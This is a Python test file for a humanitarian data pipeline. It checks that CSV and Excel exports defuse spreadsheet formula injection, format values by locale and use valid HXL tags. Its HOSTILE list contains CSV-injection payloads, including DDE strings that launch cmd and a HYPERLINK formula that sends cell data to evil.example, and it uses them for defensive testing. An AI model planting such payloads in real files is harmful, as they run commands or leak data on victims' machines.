"""Every CSV and workbook the project writes: one CSV style, formulas never live, text as text, valid HXL."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from protection_etl.expectations.report import QuarantineRow, RunReport, SourceSummary
from protection_etl.expectations.report.files import render_quarantine_csv
from protection_etl.spreadsheets import CSV_STYLES, csv_cell, looks_like_formula
from protection_etl.warehouse.export import hxl_tags, write_xlsx

EXCEL, PLAIN = CSV_STYLES["excel"], CSV_STYLES["plain"]
# what partners' cells can hold that a spreadsheet would run (OWASP "CSV injection"), and harmless look-alikes
HOSTILE = [
    ("=2+2", "formula"),
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")", "hyperlink"),
    ("+cmd|' /C calc'!A0", "dde-plus"),
    ("-2+3+cmd|' /C calc'!A0", "dde-minus"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "dde-at"),
    ("\t=2+2", "tab"),
    ("\r=2+2", "carriage-return"),
    ("=cmd|' /C notepad'!'A1'", "dde-equals"),
]
HARMLESS = [("-3", "negative-number"), ("-1,5", "negative-french-decimal"), ("Ségou", "plain"), ("1.3", "code")]

# HXL 1.1 core hashtags (hxlstandard.org/standard/1-1final/dictionary); any other must be custom, #x_…
CORE_HASHTAGS = {
    "access", "activity", "adm1", "adm2", "adm3", "adm4", "adm5", "affected", "beneficiary", "capacity", "cause",
    "channel", "contact", "country", "crisis", "currency", "date", "description", "event", "frequency", "geo",
    "group", "impact", "indicator", "inneed", "item", "loc", "meta", "modality", "need", "operations", "org",
    "output", "population", "reached", "region", "respondee", "sector", "service", "severity", "status",
    "subsector", "targeted", "value",
}


@pytest.mark.parametrize(("text", "why"), HOSTILE, ids=[i for _, i in HOSTILE])
def test_a_text_that_could_run_is_defused_in_csv(text, why):
    assert looks_like_formula(text)
    for style in (EXCEL, PLAIN):
        assert csv_cell(text, style) == "'" + text


@pytest.mark.parametrize(("text", "why"), HARMLESS, ids=[i for _, i in HARMLESS])
def test_numbers_and_plain_text_stay_as_they_are(text, why):
    assert csv_cell(text, EXCEL) == text


@pytest.mark.parametrize(
    ("value", "excel", "plain"),
    [(None, "", ""), (True, "true", "true"), (12, "12", "12"), (2.5, "2,5", "2.5"), (Decimal("0.25"), "0,25", "0.25"),
     (date(2026, 10, 1), "2026-10-01", "2026-10-01"), (datetime(2026, 10, 1, 2, 5), "2026-10-01 02:05:00",
                                                       "2026-10-01 02:05:00")],
    ids=["null", "bool", "int", "float", "decimal", "date", "datetime"],
)
def test_csv_values_follow_the_style(value, excel, plain):
    assert (csv_cell(value, EXCEL), csv_cell(value, PLAIN)) == (excel, plain)


def test_the_quarantine_csv_defuses_partner_values_and_lists_a_row_once(tmp_path):
    hostile = [QuarantineRow("cmp", "c.xlsx", "Data", 7, f"col{i}", text, "a count", "warning")
               for i, (text, _) in enumerate(HOSTILE)]
    report = RunReport("r", datetime(2026, 11, 30), None, "succeeded with warnings",
                       sources=[SourceSummary("cmp", "cmp", "loaded with warnings", rows_quarantined=1)],
                       quarantine=hostile)

    raw = render_quarantine_csv(report)

    assert raw.startswith(b"\xef\xbb\xbf")
    header, *rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 1  # one input row, its eight bad cells listed in it
    values = dict(zip(header, rows[0], strict=True))["value"].split(" | ")
    assert values[0] == "'=2+2"  # the first cell starts the field: defused
    assert not any(field.startswith(("=", "+", "-", "@", "\t", "\r")) for field in rows[0])


def test_xlsx_keeps_text_as_text_and_never_writes_a_formula(tmp_path):
    path = tmp_path / "x.xlsx"
    header = [["text", "code", "persons", "day", "at"]]
    rows = [(text, "1.3", 5, date(2026, 10, 1), datetime(2026, 10, 1, 2, 5)) for text, _ in HOSTILE + HARMLESS]

    write_xlsx(path, header, iter([rows]), sheet="t")

    sheet = load_workbook(path).active
    cells = list(sheet.iter_rows(min_row=2))
    # XML reads a stored carriage return back as a line feed; the text is otherwise exact
    assert [row[0].value for row in cells] == [text.replace("\r", "\n") for text, _ in HOSTILE + HARMLESS]
    assert {row[0].data_type for row in cells} == {"s"}  # never "f"
    assert [row[0].quotePrefix for row in cells] == [True] * len(HOSTILE) + [False] * len(HARMLESS)
    code, persons, day, at = cells[0][1], cells[0][2], cells[0][3], cells[0][4]
    assert (code.value, code.data_type) == ("1.3", "s")
    assert (persons.value, persons.data_type) == (5, "n")
    assert day.is_date and day.number_format == "yyyy-mm-dd"
    assert at.is_date and at.number_format == "yyyy-mm-dd hh:mm"


def test_xlsx_opens_cleanly_bold_header_frozen_filtered_and_wide_enough(tmp_path):
    path = tmp_path / "x.xlsx"
    long_name = "Organisation non gouvernementale de développement local"
    header = [["org_name", "persons", "period_start"], ["#org+name", "#affected+ind", "#date+month"]]

    write_xlsx(path, header, iter([[(long_name, 12, date(2026, 10, 1))], [("ONG", 3, date(2026, 9, 1))]]), sheet="s")

    sheet = load_workbook(path).active
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:C4"
    assert all(cell.font.b for cell in sheet[1]) and all(cell.font.b for cell in sheet[2])
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABC"}
    assert widths["A"] >= len(long_name) and widths["C"] >= len("2026-10-01") + 1  # no ### for dates


def test_every_hashtag_is_core_or_custom():
    for column, tag in hxl_tags().items():
        name = tag.removeprefix("#").split("+")[0]
        assert name in CORE_HASHTAGS or name.startswith("x_"), f"{column}: {tag} is neither core HXL nor #x_"
